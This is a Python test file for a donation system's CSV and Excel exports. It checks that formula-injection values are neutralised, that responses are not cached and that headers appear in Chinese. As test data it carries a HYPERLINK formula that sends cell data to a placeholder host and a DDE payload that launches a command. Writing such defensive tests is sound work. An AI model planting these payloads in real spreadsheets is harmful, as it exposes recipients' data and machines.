"""Exports are safe to open in Excel/WPS: no text becomes a formula, nothing is cached,
and finance staff read Chinese headers and words instead of codes (issue 13)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest

from server.exports import neutralise
from tests.conftest import Api
from tests.donation_setup import STATION, build_world, money, phone
from tests.helpers import new_id

pytestmark = pytest.mark.anyio

HYPERLINK = '=HYPERLINK("http://x/?d="&O2,"详情")'


def test_every_formula_trigger_is_neutralised() -> None:
    for text in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK):
        assert neutralise(text) == "'" + text
    assert neutralise("张三") == "张三" and neutralise("a=b") == "a=b"
    assert neutralise(-1200) == -1200  # amounts stay numbers


async def _export_world(api: Api) -> tuple[dict[str, str], str]:
    world = await build_world(api)
    p = await phone(world, "staff2")
    donor = {"name": HYPERLINK, "phone": "+86 13800138000", "organisation": "@SUM(A1:A9)",
             "wants_receipt": False}
    result = await p.device.send("donation.record", money(
        new_id(), 12_345, fund_id=world.fund_id, donor=donor, method="wechat_pay",
        event_id=world.event_id))
    assert result["status"] == "applied", result
    goods = {"id": new_id(), "station": STATION, "kind": "goods", "direction": "undirected",
             "items": [{"name": "-2+3", "quantity": 1, "unit": "箱", "estimated_value_fen": 100}],
             "donor": {"name": "+cmd|' /C calc'!A0", "wants_receipt": False}}
    result = await p.device.send("donation.record", goods)
    assert result["status"] == "applied", result
    return api.auth(await api.token("mgr1", "manager", station=STATION)), world.event_id


async def test_donor_formula_is_text_in_the_csv(api: Api) -> None:
    manager, _event = await _export_world(api)
    response = await api.http.get("/api/v1/exports/donations.csv", headers=manager)
    assert response.status_code == 200
    assert response.headers["cache-control"] == "no-store"
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    header, english = lines[0], lines[1]
    assert header[:3] == ["编号", "登记时间", "手机时间"] and "捐赠人" in header
    assert english[:3] == ["id", "recorded at", "device time"]
    rows = [dict(zip(header, line)) for line in lines[2:]]
    names = {r["捐赠人"] for r in rows}
    assert names == {"'" + HYPERLINK, "'+cmd|' /C calc'!A0"}
    money_row = next(r for r in rows if r["类别"] == "善款 / money")
    assert money_row["捐赠人电话"] == "'+86 13800138000"
    assert money_row["捐赠单位"] == "'@SUM(A1:A9)"
    assert money_row["支付方式"] == "微信支付 / WeChat Pay"
    goods_row = next(r for r in rows if r["类别"] == "物资 / goods")
    assert goods_row["物资明细"].startswith("'-2+3")
    for line in lines:
        for cell in line:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


async def test_donor_formula_is_a_string_cell_in_excel(api: Api) -> None:
    manager, _event = await _export_world(api)
    response = await api.http.get("/api/v1/exports/donations.xlsx", headers=manager)
    assert response.status_code == 200 and response.headers["cache-control"] == "no-store"
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [c.value for c in sheet[1]]
    assert header[0] == "编号" and "支付方式" in header and "活动" in header
    donor_col = header.index("捐赠人") + 1
    cells = [sheet.cell(row=r, column=donor_col) for r in range(3, sheet.max_row + 1)]
    assert {c.value for c in cells} == {"'" + HYPERLINK, "'+cmd|' /C calc'!A0"}
    for row in sheet.iter_rows():
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
            if isinstance(cell.value, str):
                assert cell.data_type == "s" and not cell.value.startswith("=")


async def test_exports_show_names_not_codes(api: Api) -> None:
    manager, event_id = await _export_world(api)
    response = await api.http.get("/api/v1/exports/donations.csv", headers=manager)
    lines = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    rows = [dict(zip(lines[0], line)) for line in lines[2:]]
    money_row = next(r for r in rows if r["类别"] == "善款 / money")
    text = response.content.decode("utf-8-sig")
    assert event_id not in text and "wechat_pay" not in text
    assert money_row["活动"] and money_row["活动"] != event_id
    assert money_row["站点"] == "天河社工站"
